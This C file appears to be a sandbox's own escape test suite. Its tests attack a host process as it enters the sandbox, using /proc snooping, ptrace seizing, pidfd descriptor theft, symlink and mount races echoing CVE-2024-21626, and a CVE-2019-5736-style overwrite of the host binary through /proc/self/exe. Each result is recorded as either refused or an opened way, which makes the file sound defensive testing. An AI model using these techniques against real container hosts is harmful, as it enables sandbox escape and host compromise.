/* The moment in which a process of the host joins the sandbox: enter.c, seen by who waits for it.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static struct {
  long entering;
  long refused;
  long stopped;
} seen;

/* Who enters is called so until its exec: from then on it is a learner's own program. */
static bool is_entering(int pid) {
  char path[64];
  char command[64];
  snprintf(path, sizeof(path), "/proc/%d/comm", pid);
  return read_file(path, command, sizeof(command)) > 0 && strncmp(command, "enter\n", 6) == 0;
}

static bool is_stopped(int pid) {
  char path[64];
  char line[256];
  snprintf(path, sizeof(path), "/proc/%d/stat", pid);
  const char *state = read_file(path, line, sizeof(line)) > 0 ? strrchr(line, ')') : NULL;
  return state != NULL && (state[2] == 'T' || state[2] == 't');
}

static void doze(void) {
  const struct timespec moment = {.tv_nsec = 1000000};
  nanosleep(&moment, NULL);
}

/*
 * In the middle of its exec a process has its new memory and still its old name. One that has been
 * told to stop does so on its way back from the kernel: then the name says which of the two it is.
 */
static bool is_before_exec(int pid, bool told_to_stop) {
  for (double end = now() + 1; told_to_stop && now() < end && !is_stopped(pid);) {
    doze();
  }
  return is_entering(pid);
}

/* The last question again: what was reached counts only if it was reached before the exec. */
static void judge(int pid, bool told_to_stop, const char *what, long result) {
  if (result == -1) {
    seen.refused++;
  } else if (is_entering(pid) && is_before_exec(pid, told_to_stop)) {
    open_way("%s of the entering process", what);
  }
}

/* A program that its tracer forgets waits for it, and nobody else would enter meanwhile. */
static void let_go(int pid) {
  int status;
  ptrace(PTRACE_INTERRUPT, pid, 0, 0);
  for (double end = now() + 1; now() < end && waitpid(pid, &status, WNOHANG | __WALL) == 0;) {
    doze();
  }
  ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void assault(int pid) {
  char path[64];
  char text[64];
  static const char *const files[] = {"environ", "mem",  "maps", "auxv", "root", "cwd",  "exe",
                                      "fd",      "fd/0", "fd/3", "fd/4", "fd/5", "fd/6", "ns/mnt"};
  if (!is_entering(pid)) {
    return;
  }
  seen.entering++;
  const bool told_to_stop = kill(pid, SIGSTOP) == 0;
  seen.stopped += told_to_stop;
  for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
    snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i]);
    int file = open(path, O_RDONLY | O_CLOEXEC);
    judge(pid, told_to_stop, files[i],
          file < 0                                   ? -1
          : files[i][0] == 'e' && files[i][1] == 'n' ? read(file, text, sizeof(text))
                                                     : 0);
    close(file);
  }
  snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
  long length = read_file(path, text, sizeof(text));
  for (long i = 0; i < length; i++) {
    if (text[i] != '\0' && is_entering(pid) && is_before_exec(pid, told_to_stop)) {
      open_way("the command line of the entering process: %s", text + i);
      break;
    }
  }
  long seized = ptrace(PTRACE_SEIZE, pid, 0, 0);
  judge(pid, told_to_stop, "PTRACE_SEIZE", seized);
  if (seized == 0) {
    let_go(pid);
  }
  int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
  for (int fd = 0; pidfd >= 0 && fd < 12; fd++) {
    judge(pid, told_to_stop, "pidfd_getfd", syscall(SYS_pidfd_getfd, pidfd, fd, 0));
  }
  close(pidfd);
  kill(pid, SIGCONT);
}

/* spy SECONDS: looks for who enters all the time, stops it, and tries to get hold of it. */
static void spy(int count, char **arguments) {
  double end = now() + (count > 0 ? atof(arguments[0]) : 5);
  int own = getpid();
  printf("ready\n");
  while (now() < end) {
    char text[32];
    /* New pids come one after the other; the directory is read where the last one was. */
    int last = 0;
    if (read_file("/proc/sys/kernel/ns_last_pid", text, sizeof(text)) > 0) {
      last = atoi(text);
    }
    for (int pid = last > 8 ? last - 8 : 2; pid <= last + 2; pid++) {
      if (pid != own) {
        assault(pid);
      }
    }
  }
  if (seen.entering == 0) {
    skipped("nobody was seen while entering");
    return;
  }
  refused("seen %ld times, stopped %ld times, %ld attempts: EACCES or EPERM", seen.entering,
          seen.stopped, seen.refused);
}

/* What a learner may put where the warden's helper wants its terminal. */
static void place(int turn, const char *target) {
  umount2("/dev/tty1", MNT_DETACH);
  unlink("/dev/tty1");
  rmdir("/dev/tty1");
  switch (turn % 7) {
  case 0:
    close(open("/dev/tty1", O_CREAT | O_WRONLY | O_CLOEXEC, 0666));
    break;
  case 1:
    symlink(target, "/dev/tty1");
    break;
  case 2:
    mkfifo("/dev/tty1", 0666);
    break;
  case 3:
    mkdir("/dev/tty1", 0755);
    break;
  case 4:
    symlink("/proc/self/fd/4", "/dev/tty1");
    break;
  case 5:
    close(open("/dev/tty1", O_CREAT | O_WRONLY | O_CLOEXEC, 0666));
    mount("/dev/zero", "/dev/tty1", NULL, MS_BIND, NULL);
    break;
  default:
    break;
  }
}

/* The same for the directory that a shell begins in: CVE-2024-21626 is a descriptor in its place.
 */
static void place_home(int turn) {
  unlink("/root");
  rename("/root", "/root.kept");
  if (turn % 2 == 0) {
    char target[32];
    snprintf(target, sizeof(target), "/proc/self/fd/%d", 3 + turn / 2 % 8);
    symlink(target, "/root");
  } else {
    rename("/root.kept", "/root");
  }
}

/* race SECONDS PATH: swaps what `enter` uses by name, again and again, a file of the host among it.
 */
static void race(int count, char **arguments) {
  double end = now() + (count > 0 ? atof(arguments[0]) : 5);
  const char *target = count > 1 ? arguments[1] : "/etc/hostname";
  int turn = 0;
  printf("ready\n");
  for (; now() < end; turn++) {
    place(turn, target);
    place_home(turn);
  }
  place(0, target);
  unlink("/root");
  rename("/root.kept", "/root");
  refused("names swapped %d times", turn);
  ask_host();
}

/* shell-is-self: CVE-2019-5736, the shell is a link to who executes it. */
static void shell_is_self(int count, char **arguments) {
  (void)count;
  (void)arguments;
  if (rename("/usr/bin/bash", "/usr/bin/bash.kept") < 0 ||
      symlink("/proc/self/exe", "/usr/bin/bash") < 0) {
    skipped("bash could not be replaced: %s", error_name(errno));
    return;
  }
  printf("ready\n");
  long writes = 0;
  long tries = 0;
  for (double end = now() + (count > 0 ? atof(arguments[0]) : 3); now() < end;) {
    char text[32];
    int last = read_file("/proc/sys/kernel/ns_last_pid", text, sizeof(text)) > 0 ? atoi(text) : 0;
    for (int pid = last > 8 ? last - 8 : 2; pid <= last + 2; pid++) {
      char path[64];
      char target[256];
      snprintf(path, sizeof(path), "/proc/%d/exe", pid);
      long length = pid == getpid() ? -1 : readlink(path, target, sizeof(target) - 1);
      target[length < 0 ? 0 : length] = '\0';
      if (strstr(target, "enter") != NULL) {
        int file = open(path, O_WRONLY | O_CLOEXEC);
        tries++;
        writes += file >= 0;
        close(file);
      }
    }
  }
  unlink("/usr/bin/bash");
  rename("/usr/bin/bash.kept", "/usr/bin/bash");
  if (writes > 0) {
    open_way("the host's enter was opened for writing %ld times", writes);
  } else {
    refused("enter's own file, seen %ld times: ETXTBSY or EACCES", tries);
  }
  ask_host();
}

const struct attack ENTERING_ATTACKS[] = {
    {"spy", spy},
    {"race", race},
    {"shell-is-self", shell_is_self},
    {NULL, NULL},
};
